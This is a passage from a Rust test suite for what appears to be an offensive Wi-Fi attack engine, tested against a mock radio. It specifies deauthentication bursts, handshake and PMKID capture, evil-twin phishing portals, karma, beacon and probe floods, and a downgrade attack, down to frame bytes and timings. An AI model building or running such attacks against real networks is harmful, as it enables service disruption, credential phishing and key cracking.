        drifter.set_channel(11).unwrap();

        e.tick(t0 + Duration::from_millis(200));
        assert_eq!(radio.channel(), Some(6));
    }

    #[test]
    fn test_handshake_capture_provokes_and_records() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_handshake_capture());
        radio.inject_eapol_m1(TARGET, CLIENT_A, true, -60);

        let t0 = Instant::now();
        e.tick(t0);

        let stats = e.stats();
        assert_eq!(stats.handshakes_captured, 1);
        assert_eq!(stats.pmkids_captured, 1);
        assert_eq!(e.capture_buffer().lock().record_count(), 1);
        // Provocation burst went out
        assert_eq!(radio.stats().transmitted, 10);

        // Within the 2 s cadence: passive only
        e.tick(t0 + Duration::from_millis(500));
        assert_eq!(radio.stats().transmitted, 10);

        e.tick(t0 + Duration::from_millis(2100));
        assert_eq!(radio.stats().transmitted, 20);
    }

    #[test]
    fn test_pmkid_mode_never_provokes() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_pmkid_attack());
        let t0 = Instant::now();
        e.tick(t0);
        e.tick(t0 + Duration::from_secs(3));
        assert_eq!(radio.stats().transmitted, 0);
    }

    #[test]
    fn test_sniper_strikes_only_known_clients() {
        let radio = DummyRadio::recording();
        let mut e = targeted_engine(&radio);

        assert!(e.start_handshake_sniper());
        let t0 = Instant::now();
        e.tick(t0);
        assert_eq!(radio.stats().transmitted, 0);

        radio.inject_data_frame(TARGET, CLIENT_A, -45);
        e.tick(t0 + Duration::from_millis(10));

        // Turbo unicast burst against the discovered client
        let frames = radio.transmitted();
        assert_eq!(frames.len(), 40);
        assert_eq!(&frames[0][4..10], CLIENT_A.as_bytes());
    }

    #[test]
    fn test_nuke_sweeps_all_channels() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);

        assert!(e.start_one_tap_nuke());
        let t0 = Instant::now();
        for i in 0..13u64 {
            e.tick(t0 + Duration::from_millis(i * 10));
        }

        let history = radio.channel_history();
        assert_eq!(history, (1..=13).collect::<Vec<u8>>());
        // Turbo burst on every channel
        assert_eq!(radio.stats().transmitted, 13 * 40);

        // Wraps back to channel 1
        e.tick(t0 + Duration::from_millis(130));
        assert_eq!(radio.channel(), Some(1));
    }

    #[test]
    fn test_downgrade_uses_reason_2() {
        let radio = DummyRadio::recording();
        let mut e = targeted_engine(&radio);

        assert!(e.start_downgrade_attack());
        e.tick(Instant::now());

        let frames = radio.transmitted();
        assert_eq!(frames.len(), 1);
        assert_eq!(frames[0][24], 2);
        assert_eq!(&frames[0][4..10], MacAddr::BROADCAST.as_bytes());
    }

    #[test]
    fn test_ghost_ap_toggle_cadence() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);

        assert!(e.start_ghost_ap());
        let t0 = Instant::now();

        e.tick(t0);
        assert!(radio.ap_active());

        // Before the 500 ms deadline: no change
        e.tick(t0 + Duration::from_millis(100));
        assert!(radio.ap_active());

        e.tick(t0 + Duration::from_millis(600));
        assert!(!radio.ap_active());

        e.tick(t0 + Duration::from_millis(1200));
        assert!(radio.ap_active());
        assert_eq!(radio.ap_toggles(), 3);
    }

    #[test]
    fn test_evil_twin_fails_closed_on_portal_error() {
        let radio = DummyRadio::new();
        let mut e = AttackEngine::new(
            Box::new(radio.clone()),
            Box::new(FailingPortal),
            &Config::default(),
        );
        e.set_target(TARGET, "TestNet", 6).unwrap();

        assert!(!e.start_evil_twin("TestNet", PortalVariant::Generic));
        assert!(!e.is_active());
        assert_eq!(e.stats().state, "idle");
        assert!(!radio.ap_active());
    }

    #[test]
    fn test_evil_twin_randomizes_local_bssid() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_evil_twin("TestNet", PortalVariant::CloudLogin));
        assert!(e.is_active());

        let (ssid, channel, bssid) = radio.ap().unwrap();
        assert_eq!(ssid, "TestNet");
        assert_eq!(channel, 6);
        assert!(bssid.is_locally_administered());
        assert!(!bssid.is_multicast());
        assert_ne!(bssid, TARGET);
    }

    #[test]
    fn test_tx_errors_counted_not_fatal() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);
        radio.set_fail_tx(true);

        assert!(e.start_deauth(10));
        e.tick(Instant::now());

        let stats = e.stats();
        assert_eq!(stats.tx_errors, 10);
        assert_eq!(stats.frames_sent, 0);
        assert!(e.is_active());
    }

    #[test]
    fn test_karma_logs_probed_networks() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);

        assert!(e.start_karma());
        radio.inject_probe_request(CLIENT_A, "CoffeeShopWiFi", -70);
        e.tick(Instant::now());

        assert_eq!(e.probed_ssids(), vec!["CoffeeShopWiFi".to_string()]);
        assert_eq!(e.stats().state, "karma-listening");
    }

    #[test]
    fn test_hidden_ssid_reveal_via_monitor_path() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_hidden_ssid_reveal());
        radio.inject_probe_response(TARGET, "SecretNet", -58);
        e.tick(Instant::now());

        assert_eq!(e.revealed_ssid().as_deref(), Some("SecretNet"));
    }

    #[test]
    fn test_beacon_flood_double_sends_batch() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);

        assert!(e.start_beacon_flood(None));
        e.tick(Instant::now());

        assert_eq!(radio.stats().transmitted, (BEACON_BATCH * 2) as u64);
        let history = radio.channel_history();
        assert!(history.iter().all(|c| (1..=13).contains(c)));
        for wanted in [1u8, 6, 11] {
            assert!(history.contains(&wanted));
        }
    }

    #[test]
    fn test_beacon_flood_restart_is_noop() {
        let radio = DummyRadio::new();
        let mut e = engine(&radio);

        assert!(e.start_beacon_flood(None));
        e.tick(Instant::now());
        let sent = e.stats().frames_sent;

        // Restarting the same flood keeps the session (and counters)
        assert!(e.start_beacon_flood(None));
        assert_eq!(e.stats().frames_sent, sent);
    }

    #[test]
    fn test_probe_spam_batch_with_prefix() {
        let radio = DummyRadio::recording();
        let mut e = engine(&radio);

        assert!(e.start_probe_flood(Some("Decoy".into())));
        e.tick(Instant::now());

        let frames = radio.transmitted();
        assert_eq!(frames.len(), PROBE_BATCH);
        for frame in &frames {
            assert_eq!(&frame[0..2], &[0x40, 0x00]);
            let ssid_len = frame[25] as usize;
            let ssid = std::str::from_utf8(&frame[26..26 + ssid_len]).unwrap();
            assert!(ssid.starts_with("Decoy "));
        }
    }

    #[test]
    fn test_flood_channel_statistics() {
        use rand::rngs::StdRng;
        use rand::SeedableRng;

        let mut rng = StdRng::seed_from_u64(0x57a7e);
        let mut counts: HashMap<u8, u32> = HashMap::new();
        for hop in 0..30_000 {
            *counts.entry(flood_channel(hop, &mut rng)).or_default() += 1;
        }

        let preferred_min = [1u8, 6, 11]
            .iter()
            .map(|c| counts.get(c).copied().unwrap_or(0))
            .min()
            .unwrap();
        let other_max = counts
            .iter()
            .filter(|(c, _)| ![1, 6, 11].contains(*c))
            .map(|(_, n)| *n)
            .max()
            .unwrap_or(0);

        assert!(
            preferred_min > other_max,
            "channels 1/6/11 must dominate: min {preferred_min} vs other max {other_max}"
        );
    }

    #[test]
    fn test_counters_reset_on_new_session() {
        let radio = DummyRadio::new();
        let mut e = targeted_engine(&radio);

        assert!(e.start_deauth(10));
        e.tick(Instant::now());
        assert!(e.stats().frames_sent > 0);

        assert!(e.start_rickroll());
        assert_eq!(e.stats().frames_sent, 0);
    }
}
